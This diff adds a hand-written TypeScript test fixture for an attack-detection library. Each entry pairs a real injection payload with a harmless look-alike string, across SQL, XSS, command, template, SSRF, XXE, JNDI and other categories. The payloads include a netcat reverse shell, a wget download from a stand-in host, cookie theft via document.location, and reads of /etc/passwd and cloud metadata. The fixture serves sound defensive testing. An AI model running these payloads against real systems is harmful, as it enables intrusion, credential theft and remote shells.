@@ -1,0 +1,118 @@
+import type { DetectionCategory } from '../../lib/detection/detection-category';
+
+/** An attack and its harmless twin: the same words and signs, put to an honest use. */
+export interface AttackPair {
+  readonly category: DetectionCategory;
+  readonly attack: string;
+  readonly twin: string;
+}
+
+const pairs = (
+  category: DetectionCategory,
+  ...rows: (readonly [attack: string, twin: string])[]
+): AttackPair[] => rows.map(([attack, twin]) => ({ category, attack, twin }));
+
+/** Written by hand for this project. */
+export const attackPairs: readonly AttackPair[] = [
+  ...pairs(
+    'sqli',
+    ["mallory' OR 7=7 -- ", "Mallory's order of 7 or 8"],
+    ['12 UNION ALL SELECT card, cvv FROM payments', 'the union of all selected cards'],
+    ["x'; DROP TABLE invoices; --", 'drop the table; then the chairs'],
+    ['(SELECT CASE WHEN (4=4) THEN 1 ELSE 0 END)', 'select the case when it arrives'],
+    ["9' AND SLEEP(7) AND 'k'='k", "they're asleep (7 hours) and okay"],
+    ['5/**/oR/**/8/**/lIkE/**/8', '5 or 8 like the others'],
+    ["b' || (SELECT secret FROM vault LIMIT 1) || '", 'b || c means b or c'],
+    ["3; EXEC master..xp_cmdshell 'whoami'", '3; executive summary'],
+    ["' ORDER BY 9#", 'order by nine (#9)'],
+  ),
+  ...pairs(
+    'nosqli',
+    ['{"$gt": ""}', '{"gt": ""}'],
+    ["x'; return this.role == 'admin'; var z='", "don't return this"],
+    ['role[$ne]=guest', 'role[ne]=guest'],
+  ),
+  ...pairs(
+    'xss',
+    ['<script src=//a.example/k.js></script>', 'the script tag'],
+    ['"><img src=q onerror=steal()>', '"> <img src="q.png" alt="on error">'],
+    ["' autofocus onfocus=steal() '", "the 'autofocus' attribute focuses"],
+    ['<a href="jav&#x09;ascript:steal()">x</a>', '<a href="https://example.com/javascript">x</a>'],
+    ["';document.location='//a.example/'+document.cookie;'", "'document' and 'location' and 'cookie'"],
+    ['<svg><animate onbegin=steal() attributeName=x>', 'svg animate on begin'],
+    ['javascript:steal()', 'JavaScript: an introduction'],
+    ['<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;">', '<i>frame</i> and <b>source</b>'],
+  ),
+  ...pairs(
+    'traversal',
+    ['../../../../etc/passwd', '../images/passwd.png'],
+    ['..%2f..%2f..%2fboot.ini', 'a..b..c'],
+    ['....//....//....//etc/shadow', 'to be continued.... soon'],
+    ['..\\..\\..\\windows\\win.ini', 'C:\\Users\\kate\\windows.doc'],
+    ['/proc/self/environ', '/process/self/environment'],
+  ),
+  ...pairs(
+    'inclusion',
+    ['http://a.example/shell.txt?', 'http://a.example/help?topic=a'],
+    ['https://a.example/c99.gif??', 'https://a.example/cat.gif'],
+  ),
+  ...pairs(
+    'command',
+    ['; wget http://a.example/x -O /tmp/x', 'wget; curl; and friends'],
+    ['$(nc -e /bin/sh 198.51.100.7 9001)', 'costs $ (net)'],
+    ['a | c\\at /e\\tc/hostname', 'a | category'],
+    ['`id -a`', 'the `map` function'],
+    ['& ping -c 9 127.0.0.1 &', 'ping & pong'],
+    ["python3 -c 'import pty'", 'python3 is a language'],
+  ),
+  ...pairs(
+    'php',
+    ['<?php passthru($_GET[1]); ?>', '<?xml version="1.1"?>'],
+    ['php://filter/read=convert.base64-encode/resource=x', 'https://php.example/filter'],
+    ['O:6:"Logger":1:{s:4:"file";s:5:"x.php";}', 'O:6 is a score'],
+  ),
+  ...pairs(
+    'node',
+    ["require('child_process').execSync('x')", "require('express')"],
+    ["global.process.mainModule.require('fs')", 'the global process'],
+    ['{"__proto__":{"admin":true}}', '{"prototype":{"admin":true}}'],
+  ),
+  ...pairs(
+    'java',
+    ['${jndi:ldap://a.example/o}', '${amount} due'],
+    ['${${::-j}${::-n}di:rmi://a.example/o}', '${name:-nobody}'],
+    ['T(java.lang.Runtime).getRuntime()', 'the Java runtime'],
+  ),
+  ...pairs(
+    'template',
+    ['{{9*9}}', '{{ total }}'],
+    ["{{''.__class__.__mro__[1].__subclasses__()}}", '{{ class_name }}'],
+    ['<%= File.open("/x").read %>', '100 <% of all'],
+    ['${"x".getClass().forName("y")}', '${className}'],
+  ),
+  ...pairs(
+    'ssrf',
+    ['http://169.254.169.254/latest/meta-data/', 'http://169.example/latest/'],
+    ['http://[::ffff:7f00:1]/admin', 'http://example.com/admin'],
+    ['http://2130706433/', 'http://example.com/2130706433'],
+    ['gopher://cache.example:6379/_FLUSHALL', 'the gopher:protocol'],
+  ),
+  ...pairs(
+    'xxe',
+    ['<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>', '<!DOCTYPE html><html></html>'],
+    ['<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></x>', 'include & exclude'],
+  ),
+  ...pairs('ldap', ['kate)(|(uid=*', 'kate (uid 7)'], ['*)(objectClass=*', '* (object class)']),
+  ...pairs(
+    'xpath',
+    ["x' or count(//user)=3 or 'a'='b", 'count (users) or admins'],
+    ["'] | //secret/*[1]", "['a'] | b"],
+  ),
+  ...pairs('ssi', ['<!--#exec cmd="ls" -->', '<!-- exec summary -->']),
+  ...pairs(
+    'crlf',
+    ['en\r\nSet-Cookie: role=admin', 'en\r\nthe cookie is set'],
+    ['x%0d%0aLocation:%20//a.example', 'x%20location%3A%20here'],
+    ['kate@example.com\nBcc: all@example.com', 'kate@example.com\nback soon'],
+  ),
+];
